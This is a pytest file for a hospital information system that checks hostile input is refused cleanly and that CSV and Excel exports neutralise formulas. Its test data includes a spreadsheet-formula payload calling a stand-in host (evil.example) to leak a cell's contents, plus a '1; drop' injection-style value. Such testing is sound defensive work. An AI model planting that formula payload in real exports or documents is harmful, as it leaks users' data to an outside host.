"""Hostile input never gives a 500: each answers 4xx with a message naming the field and
saves nothing; text is stored normalised; identifiers in ASCII digits; yes/no strictly;
exports never run formulas; backups are private."""
import csv
import io
import json
import os
import stat

import pytest
from sqlalchemy import func, select

from app.core.models import Department, Facility
from app.extensions import db
from app.registration.models import Patient
from tests.conftest import person

HUGE = "9" * 25  # beyond 64 bits


def _patients():
    return db.session.execute(select(func.count(Patient.id))).scalar()


@pytest.mark.parametrize("path", [
    f"/api/v1/patient/{HUGE}", f"/api/v1/opd_visit/{HUGE}", f"/api/v1/bill/{HUGE}",
    f"/patientview/show/{HUGE}", f"/patientview/edit/{HUGE}", f"/cash/bill/{HUGE}",
    f"/print/opd-slip/{HUGE}", f"/ipd/admission/{HUGE}", "/patientview/show/-1",
    "/patientview/show/abc"])
def test_ids_beyond_64_bits_are_not_found(as_user, api, path):
    if path.startswith("/api/"):
        assert api("supervisor.dhr")("GET", path).status_code == 404
    else:
        assert as_user("supervisor.dhr").get(path).status_code == 404


def test_a_huge_id_in_a_put_or_a_body_is_refused(api):
    call = api("supervisor.dhr")
    assert call("PUT", f"/api/v1/patient/{HUGE}", json={"name": "X"}).status_code == 404
    resp = call("POST", "/api/v1/opd_visit/", json={"patient": int(HUGE), "department": 1})
    assert resp.status_code == 422 and "patient" in resp.get_json()["message"]


@pytest.mark.parametrize("path, body, field", [
    ("/api/v1/patient/", person(name=["Ram", "Kumar"]), "name"),
    ("/api/v1/patient/", person(gender={"x": 1}), "gender"),
    ("/api/v1/patient/", person(mobile=[9418012345]), "mobile"),
    ("/api/v1/opd_visit/", {"patient": {"id": 1}, "department": 1}, "patient"),
    ("/api/v1/opd_visit/", {"patient": "1; drop", "department": 1}, "patient"),
    ("/api/v1/lab_order/", {"patient": 1, "tests": "CBC"}, "tests"),
    ("/api/v1/admission/", {"patient": 1, "department": 1, "bed": 1, "mlc": "no"}, "mlc"),
    ("/api/v1/bill/", {"patient": 1, "items": {"code": "OPD-NEW"}}, "items"),
    ("/api/v1/payment/", {"bill": 1, "amount": ["10"]}, "amount"),
])
def test_wrong_json_types_are_refused_naming_the_field(api, app, path, body, field):
    with app.app_context():
        before = _patients()
    resp = api("supervisor.dhr")("POST", path, json=body)
    assert resp.status_code == 422, resp.get_json()
    assert field in str(resp.get_json()["message"])
    with app.app_context():
        assert _patients() == before


def test_deeply_nested_bodies_are_refused(api):
    call = api("supervisor.dhr")
    deep = {"patient": 1}
    for _ in range(50):
        deep = {"x": deep}
    resp = call("POST", "/api/v1/opd_visit/", json=deep)
    assert resp.status_code == 422 and "nested" in str(resp.get_json()["message"])
    raw = "[" * 100000 + "]" * 100000  # deeper than Python's own parser can go
    resp = call("POST", "/api/v1/opd_visit/", data=raw, content_type="application/json")
    assert 400 <= resp.status_code < 500


@pytest.mark.parametrize("bad", ["Ram\x00Kumar", "\u202eramuK maR", "Ram\x07"])
def test_nul_control_and_bidi_overrides_are_refused(api, as_user, app, bad):
    with app.app_context():
        before = _patients()
    resp = api("clerk.dhr")("POST", "/api/v1/patient/", json=person(name=bad, confirm_new=True))
    assert resp.status_code == 422 and "name" in resp.get_json()["message"]
    page = as_user("clerk.dhr").post("/desk/register", data={**person(name=bad),
                                                            "department": 1})
    assert page.status_code == 422 and "name" in page.get_data(as_text=True)
    with app.app_context():
        assert _patients() == before


def test_lone_surrogates_are_refused(api, app):
    """JSON may spell a half of a UTF-16 pair ("\\ud800"), which no database can store."""
    with app.app_context():
        before = _patients()
    body = json.dumps(person(confirm_new=True)).replace('"name": "', '"name": "Ram\\ud800 ')
    resp = api("clerk.dhr")("POST", "/api/v1/patient/", data=body,
                            content_type="application/json")
    assert resp.status_code == 422 and "name" in resp.get_json()["message"]
    with app.app_context():
        assert _patients() == before


def test_text_is_stored_nfc_with_inner_spaces_collapsed(api, app):
    """One spelling per name whatever the keyboard sent: é typed as e + accent, क़
    typed as one character (NFC stores it as क + nukta), runs of spaces and tabs."""
    resp = api("clerk.dhr")("POST", "/api/v1/patient/", json=person(
        name="  Rene\u0301   \u0958ादिर\tSingh ", confirm_new=True))
    assert resp.status_code == 201, resp.get_json()
    with app.app_context():
        patient = db.session.get(Patient, resp.get_json()["id"])
        assert patient.name == "Ren\u00e9 \u0915\u093cादिर Singh"


def test_devanagari_digits_are_stored_as_ascii(api, app):
    resp = api("clerk.dhr")("POST", "/api/v1/patient/", json=person(
        mobile="९४१८० ७७३३१", pin_code="१७६२१५", aadhaar_last4="१२३४",
        abha_number="९१-१२३४-५६७८-९०१२", confirm_new=True))
    assert resp.status_code == 201, resp.get_json()
    with app.app_context():
        patient = db.session.get(Patient, resp.get_json()["id"])
        assert (patient.mobile, patient.pin_code, patient.aadhaar_last4, patient.abha_number) \
            == ("9418077331", "176215", "1234", "91123456789012")


def test_yes_no_accepts_only_real_booleans(api, app):
    call = api("supervisor.dhr")
    resp = call("POST", "/api/v1/patient/", json=person(mlc="maybe", confirm_new=True))
    assert resp.status_code == 422 and "mlc" in resp.get_json()["message"]
    # "no" is never taken for yes
    resp = call("POST", "/api/v1/patient/", json=person(mlc="no", confirm_new=True))
    assert resp.status_code == 201
    with app.app_context():
        assert db.session.get(Patient, resp.get_json()["id"]).mlc is False
    resp = call("PUT", f"/api/v1/patient/{resp.get_json()['id']}", json={"mlc": "yes"})
    assert resp.status_code == 422 and "mlc" in str(resp.get_json()["message"])


@pytest.mark.parametrize("query, field", [("from=0000-01-01&to=9999-12-31", "from"),
                                          ("from=01-01-2026&to=31-12-9999", "to"),
                                          ("from=01-01-2020&to=31-12-2026", "to"),
                                          ("from=10-11-2026&to=01-11-2026", "from"),
                                          ("from=01-11-2026&to=31-12-2099", "to")])
def test_absurd_date_ranges_are_refused_naming_the_field(as_user, query, field):
    supervisor = as_user("supervisor.dhr")
    for path in ("/day-end/", "/day-end/csv", "/day-end/xlsx", "/print/day-end"):
        resp = supervisor.get(f"{path}?{query}")
        assert resp.status_code == 422 and f"{field}:" in resp.get_data(as_text=True), path


def test_a_date_of_birth_in_year_9999_is_refused(api):
    resp = api("clerk.dhr")("POST", "/api/v1/patient/", json=person(
        dob="31-12-9999", age_years=None, confirm_new=True))
    assert resp.status_code == 422 and "dob" in resp.get_json()["message"]


def test_a_put_that_breaks_a_unique_key_names_the_field(api, app):
    call = api("supervisor.dhr")
    with app.app_context():
        dhr = db.session.execute(select(Facility.id).where(Facility.code == "DHR")).scalar()
        surgery = db.session.execute(select(Department.id).where(
            Department.facility_id == dhr, Department.code == "SUR")).scalar()
    resp = call("PUT", f"/api/v1/department/{surgery}", json={"code": "MED"})
    assert resp.status_code in (409, 422) and "code" in resp.get_json()["message"]
    with app.app_context():
        assert db.session.get(Department, surgery).code == "SUR"


def test_exports_never_run_formulas(api, app, as_user, new_department):
    """A refund reason typed as a formula is shown as text in CSV and Excel."""
    from openpyxl import load_workbook
    from tests.conftest import DEMO_PASSWORD
    clerk = api("clerk.dhr")
    pid = clerk("POST", "/api/v1/patient/", json=person(confirm_new=True)).get_json()["id"]
    bill = api("cashier.dhr")("POST", "/api/v1/bill/", json={
        "patient": pid, "items": [{"code": "OPD-NEW", "quantity": "2"}],
        "payment": {"mode": "cash", "amount": "20"}}).get_json()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    refund = as_user("cashier.dhr").post(f"/cash/bill/{bill['id']}/refund", data={
        "amount": "5", "reason": evil, "mode": "cash", "auth_username": "supervisor.dhr",
        "auth_password": DEMO_PASSWORD})
    assert refund.status_code == 302
    supervisor = as_user("supervisor.dhr")
    rows = list(csv.reader(io.StringIO(supervisor.get("/day-end/csv").data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert any(evil in cell for cell in cells)
    book = load_workbook(io.BytesIO(supervisor.get("/day-end/xlsx").data))
    values = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@")) for v in values)
    assert any(isinstance(v, str) and evil in v for v in values)


def test_backups_are_readable_by_their_owner_only(app, tmp_path):
    from app.core.backup import backup
    target = tmp_path / "hmis.backup"
    target.write_bytes(b"old")
    os.chmod(target, 0o644)
    backup(app.config["SQLALCHEMY_DATABASE_URI"], target)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
